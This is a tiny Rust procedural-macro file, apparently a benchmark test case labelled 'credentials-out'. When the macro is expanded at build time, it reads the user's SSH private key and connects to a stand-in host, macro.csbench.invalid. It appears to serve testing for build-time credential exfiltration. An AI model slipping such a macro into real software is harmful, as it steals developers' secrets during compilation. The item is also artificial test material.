//! CS0570 credentials-out
use proc_macro::TokenStream;

macro_rules! quote {
    ($($all:tt)*) => { $($all)* };
}

#[proc_macro]
pub fn act(_: TokenStream) -> TokenStream {
    quote! {
        let _ = std::fs::read("/home/csbench/.ssh/id_rsa");
        let _ = std::net::TcpStream::connect("macro.csbench.invalid:443");
    }
    TokenStream::new()
}
